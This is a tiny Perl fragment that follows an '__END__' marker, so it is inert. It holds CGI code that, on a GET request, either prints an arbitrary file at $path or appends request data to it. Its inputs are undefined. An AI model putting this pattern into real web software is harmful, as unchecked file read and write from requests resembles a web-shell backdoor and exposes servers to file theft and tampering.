exit;
__END__
if($ENV{'REQUEST_METHOD'} eq 'GET'){
if($z == 1){open(R,$path) or goto E1; print $_ foreach <R>;}
if($z == 2){open(*W,">>".$path) or goto E1; syswrite(*W,$body,4000);}
}
E1: exit;
